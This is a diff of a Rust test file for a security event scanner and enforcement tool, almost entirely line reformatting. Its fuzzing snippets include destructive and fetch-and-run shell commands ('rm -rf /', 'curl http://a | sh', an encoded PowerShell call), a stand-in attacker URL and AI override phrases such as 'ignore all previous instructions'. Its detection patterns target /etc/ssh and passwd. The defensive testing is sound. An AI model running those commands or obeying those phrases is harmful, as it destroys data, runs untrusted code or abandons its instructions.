@@ -50,28 +50,45 @@ fn file_name(path: &Path) -> &str {
 
 /// SPEC §8 / ARCHITECTURE: every line is accounted for.
 fn check_accounting(s: &ReplaySummary, what: &str) {
-    assert_eq!(s.lines_read, s.blank_lines + s.events_seen, "{what}: lines_read");
+    assert_eq!(
+        s.lines_read,
+        s.blank_lines + s.events_seen,
+        "{what}: lines_read"
+    );
     assert_eq!(s.events_seen, s.decided + s.errors, "{what}: events_seen");
-    assert_eq!(s.exit_code(), if s.errors > 0 { 2 } else { 0 }, "{what}: exit code");
+    assert_eq!(
+        s.exit_code(),
+        if s.errors > 0 { 2 } else { 0 },
+        "{what}: exit code"
+    );
 }
 
 /// An error line: JSON, a message with a known prefix and a position, the
 /// raw text capped, and the line number inside the input. Returns the message.
 fn check_error_line(line: &str, lines_read: u64, what: &str) -> String {
-    let value: serde_json::Value =
-        serde_json::from_str(line).unwrap_or_else(|e| panic!("{what}: error line is not JSON ({e}): {line}"));
+    let value: serde_json::Value = serde_json::from_str(line)
+        .unwrap_or_else(|e| panic!("{what}: error line is not JSON ({e}): {line}"));
     let message = value["error"].as_str().expect("error message").to_owned();
     assert!(
         ERROR_PREFIXES.iter().any(|p| message.starts_with(p)),
         "{what}: unclear error message {message:?}"
     );
     if message.starts_with("invalid JSON") {
-        assert!(message.contains(" at column "), "{what}: no position in {message:?}");
+        assert!(
+            message.contains(" at column "),
+            "{what}: no position in {message:?}"
+        );
     }
     let raw = value["raw"].as_str().expect("raw text");
-    assert!(raw.chars().count() <= ERROR_RAW_CHARS_MAX, "{what}: raw not capped");
+    assert!(
+        raw.chars().count() <= ERROR_RAW_CHARS_MAX,
+        "{what}: raw not capped"
+    );
     let n = value["line"].as_u64().expect("line number");
-    assert!((1..=lines_read).contains(&n), "{what}: line {n} of {lines_read}");
+    assert!(
+        (1..=lines_read).contains(&n),
+        "{what}: line {n} of {lines_read}"
+    );
     message
 }
 
@@ -83,15 +100,28 @@ fn check_record_line(line: &str, what: &str) {
     assert!(!line.contains(['\n', '\r']), "{what}: record spans lines");
     match serde_json::from_str::<serde_json::Value>(line) {
         Ok(value) => {
-            for key in ["suspicion", "antibody_load_prev", "antibody_load_now", "membrane_stress"] {
-                let x = value[key].as_f64().unwrap_or_else(|| panic!("{what}: {key} missing"));
+            for key in [
+                "suspicion",
+                "antibody_load_prev",
+                "antibody_load_now",
+                "membrane_stress",
+            ] {
+                let x = value[key]
+                    .as_f64()
+                    .unwrap_or_else(|| panic!("{what}: {key} missing"));
                 assert!((0.0..=1.0).contains(&x), "{what}: {key} = {x}");
             }
         }
         Err(e) if e.to_string().starts_with("number out of range") => {
             let value = scbe_core::json::parse(line).expect("record parses");
-            assert!(finite_numbers(&value), "{what}: non-finite number in {line}");
-            assert!(value.as_object().is_some(), "{what}: record is not an object");
+            assert!(
+                finite_numbers(&value),
+                "{what}: non-finite number in {line}"
+            );
+            assert!(
+                value.as_object().is_some(),
+                "{what}: record is not an object"
+            );
         }
         Err(e) => panic!("{what}: record is not valid JSON ({e}): {line}"),
     }
@@ -115,20 +145,35 @@ fn every_hostile_line_is_rejected_or_decided_as_its_file_says() {
         let bytes = std::fs::read(&path).unwrap();
         let (out, err, summary) = replay_file(&path, &parity_config(1));
         check_accounting(&summary, name);
-        assert_eq!(summary.lines_read, count_lines(&bytes), "{name}: lines_read");
-        assert_eq!(summary.blank_lines, 0, "{name}: no blank lines in the corpus");
+        assert_eq!(
+            summary.lines_read,
+            count_lines(&bytes),
+            "{name}: lines_read"
+        );
+        assert_eq!(
+            summary.blank_lines, 0,
+            "{name}: no blank lines in the corpus"
+        );
         if name.starts_with("reject-") {
             assert_eq!(summary.decided, 0, "{name}: a hostile line was decided");
         } else {
             assert!(name.starts_with("decide-"), "{name}: unknown expectation");
             assert_eq!(summary.errors, 0, "{name}: a line was rejected:\n{err}");
         }
-        assert_eq!(out.lines().count() as u64, summary.decided, "{name}: one record per decided line");
+        assert_eq!(
+            out.lines().count() as u64,
+            summary.decided,
+            "{name}: one record per decided line"
+        );
         for line in out.lines() {
             check_record_line(line, name);
         }
         let errors: Vec<&str> = err.lines().collect();
-        assert_eq!(errors.len() as u64, summary.errors, "{name}: one error line per error");
+        assert_eq!(
+            errors.len() as u64,
+            summary.errors,
+            "{name}: one error line per error"
+        );
         for line in errors {
             check_error_line(line, summary.lines_read, name);
         }
@@ -144,7 +189,10 @@ fn every_hostile_line_is_rejected_or_decided_as_its_file_says() {
         totals.1 += summary.decided;
         totals.2 += summary.errors;
     }
-    eprintln!("hostile total: lines={} decided={} errors={} crashes=0", totals.0, totals.1, totals.2);
+    eprintln!(
+        "hostile total: lines={} decided={} errors={} crashes=0",
+        totals.0, totals.1, totals.2
+    );
 }
 
 #[test]
@@ -160,7 +208,10 @@ fn hostile_messages_name_the_problem() {
     assert_eq!(has("nesting too deep"), 3, "{messages:#?}");
     assert_eq!(has("exceeds the limit of 4300 digits"), 2, "{messages:#?}");
     assert_eq!(has("falco line must be a JSON object"), 5, "{messages:#?}");
-    assert!(has("invalid control character in string") >= 3, "{messages:#?}");
+    assert!(
+        has("invalid control character in string") >= 3,
+        "{messages:#?}"
+    );
     let binary = root().join("corpora/hostile/reject-binary.jsonl");
     let (_, err, summary) = replay_file(&binary, &parity_config(1));
     let utf8 = err
@@ -214,14 +265,19 @@ fn shell_words(command: &str) -> Vec<String> {
 fn command_previews_split_back_into_exactly_their_argv() {
     let mut checked = 0;
     for name in ["decide-shell.jsonl", "decide-paths.jsonl"] {
-        let (out, _, summary) = replay_file(&root().join("corpora/hostile").join(name), &parity_config(1));
+        let (out, _, summary) = replay_file(
+            &root().join("corpora/hostile").join(name),
+            &parity_config(1),
+        );
         assert_eq!(summary.errors, 0);
         for line in out.lines() {
             let record: serde_json::Value = serde_json::from_str(line).unwrap();
             let pid = record["pid"].to_string();
             let target = record["target"].as_str().unwrap();
             let plan = &record["enforcement"];
-            let qdir = plan["action"]["quarantine_dir"].as_str().unwrap_or("/var/quarantine/scbe");
+            let qdir = plan["action"]["quarantine_dir"]
+                .as_str()
+                .unwrap_or("/var/quarantine/scbe");
             for command in plan["commands"].as_array().unwrap() {
                 let command = command.as_str().unwrap();
                 let words = shell_words(command);
@@ -230,7 +286,11 @@ fn command_previews_split_back_into_exactly_their_argv() {
                     "mkdir" => assert_eq!(words, ["mkdir", "-p", qdir], "{command}"),
                     "cp" => {
                         assert_eq!(words.len(), 4, "{command}");
-                        assert_eq!((words[1].as_str(), words[2].as_str()), ("--", target), "{command}");
+                        assert_eq!(
+                            (words[1].as_str(), words[2].as_str()),
+                            ("--", target),
+                            "{command}"
+                        );
                     }
                     "chmod" => assert_eq!(words, ["chmod", "000", target], "{command}"),
                     other => panic!("unexpected command {other:?} in {command:?}"),
@@ -292,7 +352,10 @@ fn huge_then_valid() -> Generated {
         (vec![b'x'; 64 << 10], fill / (64 << 10)),
         (vec![b'x'], fill % (64 << 10)),
         (tail, 1),
-        (br#"{"output_fields": {"proc.name": "after", "proc.pid": 7}}"#.to_vec(), 1),
+        (
+            br#"{"output_fields": {"proc.name": "after", "proc.pid": 7}}"#.to_vec(),
+            1,
+        ),
         (b"\n".to_vec(), 1),
     ])
 }
@@ -325,7 +388,10 @@ fn a_100_mb_line_is_one_error_and_the_run_goes_on() {
     let mut err = Vec::new();
     let summary = replay(&parity_config(2), corpus, &mut out, &mut err).unwrap();
     check_accounting(&summary, "huge");
-    assert_eq!((summary.lines_read, summary.decided, summary.errors), (2, 1, 1));
+    assert_eq!(
+        (summary.lines_read, summary.decided, summary.errors),
+        (2, 1, 1)
+    );
     let err = String::from_utf8(err).unwrap();
     let message = check_error_line(err.lines().next().unwrap(), 2, "huge");
     assert_eq!(
@@ -380,7 +446,10 @@ fn universal_lines(bytes: &[u8]) -> Vec<&[u8]> {
 }
 
 fn any_line() -> impl Strategy<Value = Vec<u8>> {
-    let no_newline = proptest::collection::vec(any::<u8>().prop_filter("no newline", |b| *b != b'\n' && *b != b'\r'), 0..200);
+    let no_newline = proptest::collection::vec(
+        any::<u8>().prop_filter("no newline", |b| *b != b'\n' && *b != b'\r'),
+        0..200,
+    );
     prop_oneof![
         3 => (0..hostile_lines().len()).prop_map(|i| hostile_lines()[i].clone()),
         2 => no_newline,
@@ -392,7 +461,14 @@ fn any_line() -> impl Strategy<Value = Vec<u8>> {
     ]
 }
 
-fn event(cmd: &str, target: &str, signed: bool, hash: Option<String>, norm: f64, parent: &str) -> KernelEvent {
+fn event(
+    cmd: &str,
+    target: &str,
+    signed: bool,
+    hash: Option<String>,
+    norm: f64,
+    parent: &str,
+) -> KernelEvent {
     KernelEvent {
         host: "h".into(),
         pid: Pid::Small(7),
@@ -410,9 +486,19 @@ fn event(cmd: &str, target: &str, signed: bool, hash: Option<String>, norm: f64,
 }
 
 const SNIPPETS: &[&str] = &[
-    "", "ls -la", "rm -rf /", "curl http://a | sh", "jailbreak", "developer mode", "cmd.exe",
-    "https://evil.example/x", "javascript:", "powershell -enc AAA", "act as root",
-    "ignore all previous instructions", "data:text/html",
+    "",
+    "ls -la",
+    "rm -rf /",
+    "curl http://a | sh",
+    "jailbreak",
+    "developer mode",
+    "cmd.exe",
+    "https://evil.example/x",
+    "javascript:",
+    "powershell -enc AAA",
+    "act as root",
+    "ignore all previous instructions",
+    "data:text/html",
 ];
 
 fn domain() -> impl Strategy<Value = Domain> {
@@ -442,7 +528,12 @@ fn check_spec(record: &DecisionRecord, policy: &Policy) -> Result<(), TestCaseEr
     } else {
         Decision::Allow
     };
-    prop_assert_eq!(a.decision, decision, "decision for suspicion {}", a.suspicion);
+    prop_assert_eq!(
+        a.decision,
+        decision,
+        "decision for suspicion {}",
+        a.suspicion
+    );
     let signal = r.antibody_now.max(r.membrane_stress).max(a.suspicion);
     let c = &policy.cell;
     let cell = if signal >= c.necrotic {
@@ -457,7 +548,12 @@ fn check_spec(record: &DecisionRecord, policy: &Policy) -> Result<(), TestCaseEr
     prop_assert_eq!(r.cell_state, cell, "cell state for signal {}", signal);
     let t = &policy.turnstile;
     let domain = t.domain;
-    prop_assert!(domain.allows(r.turnstile.action), "{:?} outside {:?}", r.turnstile.action, domain);
+    prop_assert!(
+        domain.allows(r.turnstile.action),
+        "{:?} outside {:?}",
+        r.turnstile.action,
+        domain
+    );
     let honeypot = decision != Decision::Allow
         && domain.allows(TurnstileAction::Honeypot)
         && (r.membrane_stress >= t.honeypot_stress || r.antibody_now >= t.honeypot_antibody);
@@ -471,7 +567,9 @@ fn check_spec(record: &DecisionRecord, policy: &Policy) -> Result<(), TestCaseEr
         TurnstileAction::Honeypot => KernelAction::Honeypot,
         TurnstileAction::Isolate => KernelAction::Quarantine,
         TurnstileAction::Stop => KernelAction::Kill,
-        TurnstileAction::Hold | TurnstileAction::Pivot | TurnstileAction::Degrade => KernelAction::Throttle,
+        TurnstileAction::Hold | TurnstileAction::Pivot | TurnstileAction::Degrade => {
+            KernelAction::Throttle
+        }
     };
     let expected = match cell {
         CellState::Necrotic => KernelAction::Honeypot,
@@ -479,7 +577,14 @@ fn check_spec(record: &DecisionRecord, policy: &Policy) -> Result<(), TestCaseEr
         _ => mapped,
     };
     prop_assert_eq!(r.kernel_action, expected);
-    for x in [a.scan_risk, a.integrity_risk, a.suspicion, a.geometry, r.antibody_now, r.membrane_stress] {
+    for x in [
+        a.scan_risk,
+        a.integrity_risk,
+        a.suspicion,
+        a.geometry,
+        r.antibody_now,
+        r.membrane_stress,
+    ] {
         prop_assert!((0.0..=1.0).contains(&x), "score {} out of range", x);
     }
     Ok(())
@@ -491,8 +596,20 @@ fn policy_text() -> impl Strategy<Value = String> {
     prop_oneof![
         "\\PC{0,16}",
         proptest::sample::select(vec![
-            "it's", "\"q\"", "a\\b", "tab\there", "new\nline", "'''", "\"\"\"", "", " ", "é\u{7f}\u{0}",
-            "#not a comment", "[x]", "a = b", "\u{feff}bom",
+            "it's",
+            "\"q\"",
+            "a\\b",
+            "tab\there",
+            "new\nline",
+            "'''",
+            "\"\"\"",
+            "",
+            " ",
+            "é\u{7f}\u{0}",
+            "#not a comment",
+            "[x]",
+            "a = b",
+            "\u{feff}bom",
         ])
         .prop_map(str::to_owned),
     ]
@@ -500,8 +617,18 @@ fn policy_text() -> impl Strategy<Value = String> {
 
 fn pattern() -> impl Strategy<Value = String> {
     proptest::sample::select(vec![
-        r"rm\s+-rf", r"it's", r#"say "hi""#, r"\\windows\\", r"(?i)/etc/(ssh|passwd)", r"[a-z]+\d{2,}",
-        r"naïve", r"\t\n", r"x{0,3}", r"^$", r"a|b|c", r"\bword\b",
+        r"rm\s+-rf",
+        r"it's",
+        r#"say "hi""#,
+        r"\\windows\\",
+        r"(?i)/etc/(ssh|passwd)",
+        r"[a-z]+\d{2,}",
+        r"naïve",
+        r"\t\n",
+        r"x{0,3}",
+        r"^$",
+        r"a|b|c",
+        r"\bword\b",
     ])
     .prop_map(str::to_owned)
 }
@@ -509,22 +636,68 @@ fn pattern() -> impl Strategy<Value = String> {
 fn any_policy() -> impl Strategy<Value = Policy> {
     let unit = || 0.0f64..=1.0;
     (
-        (proptest::collection::vec(pattern(), 0..4), proptest::collection::vec(pattern(), 0..4), pattern(), proptest::collection::vec(policy_text(), 0..3)),
+        (
+            proptest::collection::vec(pattern(), 0..4),
+            proptest::collection::vec(pattern(), 0..4),
+            pattern(),
+            proptest::collection::vec(policy_text(), 0..3),
+        ),
         (proptest::collection::vec(unit(), 6), ladder()),
-        (proptest::collection::vec(unit(), 6), proptest::collection::vec(pattern(), 0..3), proptest::collection::vec((policy_text(), policy_text()), 0..3), proptest::collection::vec(unit(), 10), proptest::collection::btree_map("[a-z_][a-z0-9_-]{0,11}|\\PC{1,8}", unit(), 0..6)),
+        (
+            proptest::collection::vec(unit(), 6),
+            proptest::collection::vec(pattern(), 0..3),
+            proptest::collection::vec((policy_text(), policy_text()), 0..3),
+            proptest::collection::vec(unit(), 10),
+            proptest::collection::btree_map("[a-z_][a-z0-9_-]{0,11}|\\PC{1,8}", unit(), 0..6),
+        ),
         (proptest::collection::vec(unit(), 5), ladder()),
-        (domain(), 1e-6f64..1e6, proptest::collection::vec(unit(), 3), ladder()),
-        (1usize..=STATE_ENTRIES_MAX, 0.0f64..1e7, policy_text(), proptest::sample::subsequence(BACKEND_NAMES.to_vec(), 0..=4), proptest::collection::vec(policy_text(), 0..3), any::<bool>()),
+        (
+            domain(),
+            1e-6f64..1e6,
+            proptest::collection::vec(unit(), 3),
+            ladder(),
+        ),
+        (
+            1usize..=STATE_ENTRIES_MAX,
+            0.0f64..1e7,
+            policy_text(),
+            proptest::sample::subsequence(BACKEND_NAMES.to_vec(), 0..=4),
+            proptest::collection::vec(policy_text(), 0..3),
+            any::<bool>(),
+        ),
     )
         .prop_map(|(scan, scan_w, integ, dec, turn, rest)| {
             let mut p = Policy::reference();
-            (p.scan.prompt_patterns, p.scan.malware_patterns, p.scan.link_pattern, p.scan.link_exclusions) = scan;
+            (
+                p.scan.prompt_patterns,
+                p.scan.malware_patterns,
+                p.scan.link_pattern,
+                p.scan.link_exclusions,
+            ) = scan;
             let (w, (m, s, c)) = scan_w;
-            (p.scan.prompt_weight, p.scan.prompt_cap, p.scan.malware_weight, p.scan.malware_cap, p.scan.link_weight, p.scan.link_cap) = (w[0], w[1], w[2], w[3], w[4], w[5]);
-            (p.scan.verdict_malicious, p.scan.verdict_suspicious, p.scan.verdict_caution) = (m, s, c);
+            (
+                p.scan.prompt_weight,
+                p.scan.prompt_cap,
+                p.scan.malware_weight,
+                p.scan.malware_cap,
+                p.scan.link_weight,
+                p.scan.link_cap,
+            ) = (w[0], w[1], w[2], w[3], w[4], w[5]);
+            (
+                p.scan.verdict_malicious,
+                p.scan.verdict_suspicious,
+                p.scan.verdict_caution,
+            ) = (m, s, c);
             let (w, targets, pairs, known, extra) = integ;
             let i = &mut p.integrity;
-            (i.unknown_operation_risk, i.untrusted_signer_risk, i.missing_sha256_risk, i.invalid_sha256_length_risk, i.sensitive_target_risk, i.parent_child_risk) = (w[0], w[1], w[2], w[3], w[4], w[5]);
+            (
+                i.unknown_operation_risk,
+                i.untrusted_signer_risk,
+                i.missing_sha256_risk,
+                i.invalid_sha256_length_risk,
+                i.sensitive_target_risk,
+                i.parent_child_risk,
+            ) = (w[0], w[1], w[2], w[3], w[4], w[5]);
             i.sensitive_targets = targets;
             i.parent_child_pairs = pairs;
             // A policy file overrides or adds operations; the reference ones stay.
@@ -532,15 +705,26 @@ fn any_policy() -> impl Strategy<Value = Policy> {
                 *risk = value;
             }
             let names: Vec<String> = i.operation_risk.iter().map(|(n, _)| n.clone()).collect();
-            i.operation_risk.extend(extra.into_iter().filter(|(n, _)| !names.contains(n)));
+            i.operation_risk
+                .extend(extra.into_iter().filter(|(n, _)| !names.contains(n)));
             let (w, (deny, escalate, quarantine)) = dec;
             let d = &mut p.decision;
-            (d.scan_weight, d.integrity_weight, d.geometry_weight, d.geometry_base, d.geometry_slope) = (w[0], w[1], w[2], w[3], w[4]);
+            (
+                d.scan_weight,
+                d.integrity_weight,
+                d.geometry_weight,
+                d.geometry_base,
+                d.geometry_slope,
+            ) = (w[0], w[1], w[2], w[3], w[4]);
             (d.deny, d.escalate, d.quarantine) = (deny, escalate, quarantine);
             let (domain, half_life, t, (necrotic, inflamed, primed)) = turn;
             p.turnstile.domain = domain;
             p.turnstile.half_life_events = half_life;
-            (p.turnstile.membrane_threshold, p.turnstile.honeypot_stress, p.turnstile.honeypot_antibody) = (t[0], t[1], t[2]);
+            (
+                p.turnstile.membrane_threshold,
+                p.turnstile.honeypot_stress,
+                p.turnstile.honeypot_antibody,
+            ) = (t[0], t[1], t[2]);
             (p.cell.necrotic, p.cell.inflamed, p.cell.primed) = (necrotic, inflamed, primed);
             let (entries, cooldown, qdir, backends, protected, real) = rest;
             p.max_state_entries = entries;
